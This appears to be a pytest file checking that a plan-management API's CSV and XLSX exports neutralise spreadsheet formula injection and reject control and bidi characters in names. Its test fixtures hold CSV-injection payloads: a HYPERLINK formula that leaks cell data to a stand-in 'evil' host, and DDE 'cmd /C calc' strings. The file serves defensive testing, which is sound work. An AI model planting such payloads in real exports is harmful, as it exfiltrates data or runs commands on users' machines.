"""Formula injection: every CSV and XLSX the project writes shows hostile text as text (OWASP
CSV injection: in CSV a quote before =, +, -, @, tab, CR; in XLSX a string cell with the
quote prefix style, its text exactly the name), money stays a number, and names refuse
control characters with a 422 naming the field."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from services.kit.exports import Sheet, cell, reads_as_formula, workbook
from tests.claims.support_claims import CLAIMS, day, enrolled_member, hospital_stay
from tests.support import ADMIN, AUDITOR, enrol, new_member, new_plan, new_unit, plan_body

ROOT = Path(__file__).resolve().parents[1]
# What writes a spreadsheet or one of its cells: a CSV writer, a workbook, a row appended to a
# sheet, ws.cell(...), a cell's .value, ws["A1"] = ..., a write-only cell.
WRITERS = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|\bWriteOnlyCell\("
    r"|\.append\(\[|\b(?:ws|sheet|worksheet|\w+_sheet)\.append\("
    r"|\.cell\(|\.value\s*=(?!=)"
    r"|\[\s*f?[\"'][A-Za-z]{1,3}(?:\d|\{)[^\]]*\]\s*=(?!=)"
)
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "合作社,=1+2",
]


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))  # not data_only: formulas stay formulas
    return [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]


class TestEnrollmentReportExports:
    @pytest.fixture
    async def hostile_units(self, members) -> list[str]:
        await new_plan(members, "MED-2026", contribution_per_share="36.50")
        for name in HOSTILE_NAMES:
            unit = await new_unit(members, name=name, insured_headcount=4)
            member = await new_member(members, unit)
            assert (await enrol(members, member, "MED-2026")).status_code == 201
        return HOSTILE_NAMES

    async def test_the_csv_quotes_every_hostile_unit_name(self, members, hostile_units):
        response = await members.get(
            "/api/v1/reports/enrollment",
            params={"plan_code": "MED-2026", "format": "csv"},
            headers=AUDITOR,
        )
        rows = _csv_rows(response.content)
        names = sorted(row[1] for row in rows[1:-1])
        assert names == sorted("'" + name for name in hostile_units)
        assert rows[-1][5] == f"{36.5 * len(hostile_units):.2f}"  # money: exact, unprefixed

    async def test_the_xlsx_shows_every_hostile_name_exactly_as_quoted_text(
        self, members, hostile_units
    ):
        response = await members.get(
            "/api/v1/reports/enrollment",
            params={"plan_code": "MED-2026", "format": "xlsx"},
            headers=AUDITOR,
        )
        cells = _xlsx_cells(response.content)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        hostile = [c for c in cells if c.value in hostile_units]
        # each name once, as it is (no visible '), a string cell Excel keeps as text
        assert sorted(c.value for c in hostile) == sorted(hostile_units)
        assert [(c.data_type, c.quotePrefix) for c in hostile] == [("s", True)] * len(hostile)
        assert not any(isinstance(c.value, str) and c.value.startswith("'") for c in cells)
        plain = [c for c in cells if c.value in ("单位名称", "合计")]
        assert plain and not any(c.quotePrefix for c in plain)  # only what reads as a formula
        money = [c.value for c in cells if c.number_format == "0.00"]
        assert money and all(isinstance(value, int | float) for value in money)


class TestContributionsReportExports:
    async def test_both_exports_quote_every_hostile_unit_name(self, members):
        await new_plan(members, "MED-2026", contribution_per_share="36.50")
        for name in HOSTILE_NAMES:
            unit = await new_unit(members, name=name)
            assert (await enrol(members, await new_member(members, unit), "MED-2026")).is_success
        params = {"plan_code": "MED-2026"}
        as_csv = await members.get(
            "/api/v1/reports/contributions", params={**params, "format": "csv"}, headers=AUDITOR
        )
        rows = _csv_rows(as_csv.content)
        assert sorted(row[1] for row in rows[1:-1]) == sorted("'" + n for n in HOSTILE_NAMES)
        assert rows[-1][5] == f"{36.5 * len(HOSTILE_NAMES):.2f}"  # owed: exact, unprefixed
        as_xlsx = await members.get(
            "/api/v1/reports/contributions", params={**params, "format": "xlsx"}, headers=AUDITOR
        )
        cells = _xlsx_cells(as_xlsx.content)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        hostile = [c for c in cells if c.value in HOSTILE_NAMES]
        assert sorted(c.value for c in hostile) == sorted(HOSTILE_NAMES)
        assert [(c.data_type, c.quotePrefix) for c in hostile] == [("s", True)] * len(hostile)


class TestClaimsReportExports:
    async def test_a_plan_code_that_reads_as_a_formula_is_quoted(self, api):
        # a plan's code may start with "-"; the summary sheet shows the code asked for
        params = {"plan_code": "-2-1", "format": "xlsx"}
        response = await api.get("/api/v1/reports/claims", params=params, headers=AUDITOR)
        assert response.status_code == 200, response.text
        cells = _xlsx_cells(response.content)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        code = [c for c in cells if c.value == "-2-1"]
        assert code and all((c.data_type, c.quotePrefix) == ("s", True) for c in code)
        assert "'-2-1" not in {c.value for c in cells}


class TestOneWriter:
    @pytest.mark.parametrize(
        ("text", "written"),
        [
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
            ("a;@SUM(1)", "'a;@SUM(1)"),
            ("张三", "张三"),
            ("a-b", "a-b"),
        ],
    )
    def test_text_is_neutralised_and_only_computed_numbers_stay_numbers(self, text, written):
        from decimal import Decimal

        assert cell(text, "csv") == written
        assert cell(text, "xlsx") == text  # quoted by the cell's style, not by a '
        assert cell(Decimal("-1.50"), "csv") == "-1.50"
        assert cell(Decimal("-1.50"), "xlsx") == Decimal("-1.50")

    @pytest.mark.parametrize(
        "text", ["=1+2", "\tcmd", "a;@SUM(1)", "-1", "@x", "张三", "a-b", "'=already quoted"]
    )
    def test_an_xlsx_cell_is_the_text_itself_quoted_when_it_reads_as_a_formula(self, text):
        book = workbook([Sheet("s", ["名称"], [[text]])])
        buffer = io.BytesIO()
        book.save(buffer)
        written = load_workbook(io.BytesIO(buffer.getvalue())).active["A2"]
        assert (written.value, written.data_type) == (text, "s")
        assert written.quotePrefix is reads_as_formula(text)

    @pytest.mark.parametrize(
        "line",
        [
            "writer = csv.writer(buffer)",
            "book = Workbook()",
            "ws.append([name])",
            "ws.append(row)",
            "report_sheet.append(values)",
            'ws.cell(row=2, column=1, value="=1+2")',
            "ws.cell(2, 1).value = name",
            "target.value = name",
            'ws["A1"] = name',
            "ws['B12'] = name",
            'ws[f"A{line}"] = name',
            "WriteOnlyCell(ws, value=name)",
        ],
    )
    def test_the_writer_check_sees_every_way_to_write_a_cell(self, line):
        assert WRITERS.search(line), line

    @pytest.mark.parametrize(
        "line",
        [
            "columns[index] = field",
            'body["code"] = self.code',
            'sheet["A2"].number_format = sheet["C2"].number_format = "@"',
            "rows.append(total)",
            "if written.value == name:",
        ],
    )
    def test_the_writer_check_leaves_other_code_alone(self, line):
        assert not WRITERS.search(line), line

    def test_no_module_writes_a_spreadsheet_but_services_exports(self):
        found = [
            str(path.relative_to(ROOT))
            for package in ("members_api", "claims_api", "services")
            for path in (ROOT / package).rglob("*.py")
            if WRITERS.search(path.read_text(encoding="utf-8"))
        ]
        assert found == ["services/kit/exports.py"]


class TestNamesRefuseControlCharacters:
    @pytest.mark.parametrize("bad", ["\n", "\r", "\t", "\x00", "\x7f", "\x85", "\x9b"])
    async def test_unit_and_contact_names(self, members, bad):
        for field in ("name", "contact_name"):
            body = {"name": "第一机床厂", field: f"第一{bad}机床厂"}
            response = await members.post("/api/v1/units", json=body, headers=ADMIN)
            assert response.status_code == 422, response.text
            assert response.json()["errors"][0]["loc"] == [field]

    async def test_a_member_name_with_a_line_break_or_c1_is_422(self, members):
        unit = await new_unit(members)
        for bad in ("王\n芳", "王\x85芳"):
            body = {"national_id": "11010519491231002X", "name": bad, "unit_id": unit}
            response = await members.post("/api/v1/members", json=body, headers=ADMIN)
            assert response.status_code == 422, response.text
            assert response.json()["errors"][0]["loc"] == ["name"]

    async def test_a_plan_name_with_a_carriage_return_is_422(self, members):
        body = plan_body("MED-2026", name="互助\r计划")
        response = await members.post("/api/v1/plans", json=body, headers=ADMIN)
        assert response.status_code == 422, response.text
        assert response.json()["errors"][0]["loc"] == ["name"]

    async def test_a_hospital_with_a_tab_is_422_naming_it(self, api):
        enrolled = await enrolled_member(api)
        facts = hospital_stay(day(3, 1), hospital="第一\t医院")
        response = await api.post(CLAIMS, json=enrolled.claim(facts), headers=enrolled.member)
        assert response.status_code == 422, response.text
        assert "hospital" in response.json()["detail"]

    def test_the_openapi_schema_shows_the_constraint(self):
        from members_api.units.schemas import UnitCreate

        schema = UnitCreate.model_json_schema()
        pattern = r"^[^\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]*$"
        assert schema["properties"]["name"]["pattern"] == pattern


# Embeddings, overrides and isolates: U+202E before "LTD" shows it as "DTL".
BIDI_CONTROLS = [
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
]


class TestNamesRefuseBidiControls:
    @pytest.mark.parametrize("bidi", BIDI_CONTROLS, ids=[f"U+{ord(c):04X}" for c in BIDI_CONTROLS])
    async def test_unit_and_contact_names(self, members, bidi):
        for field in ("name", "contact_name"):
            body = {"name": "第一机床厂", field: f"第一机床厂{bidi}LTD"}
            response = await members.post("/api/v1/units", json=body, headers=ADMIN)
            assert response.status_code == 422, response.text
            assert response.json()["errors"][0]["loc"] == [field]

    async def test_a_member_a_plan_and_a_hospital_name(self, members, api):
        unit = await new_unit(members)
        body = {"national_id": "11010519491231002X", "name": "王\u202e芳", "unit_id": unit}
        response = await members.post("/api/v1/members", json=body, headers=ADMIN)
        assert response.status_code == 422, response.text
        assert response.json()["errors"][0]["loc"] == ["name"]

        response = await members.post(
            "/api/v1/plans", json=plan_body("MED-2026", name="互助\u2067计划"), headers=ADMIN
        )
        assert response.status_code == 422, response.text
        assert response.json()["errors"][0]["loc"] == ["name"]

        enrolled = await enrolled_member(api)
        facts = hospital_stay(day(3, 1), hospital="第一\u202d医院")
        response = await api.post(CLAIMS, json=enrolled.claim(facts), headers=enrolled.member)
        assert response.status_code == 422, response.text
        assert "hospital" in response.json()["detail"]

    async def test_right_to_left_names_are_taken(self, members):
        # Hebrew and Arabic letters, and the right-to-left mark: no override
        for name in ("שלום", "مصنع\u200fالأول"):
            response = await members.post("/api/v1/units", json={"name": name}, headers=ADMIN)
            assert response.status_code == 201, response.text
            assert response.json()["name"] == name
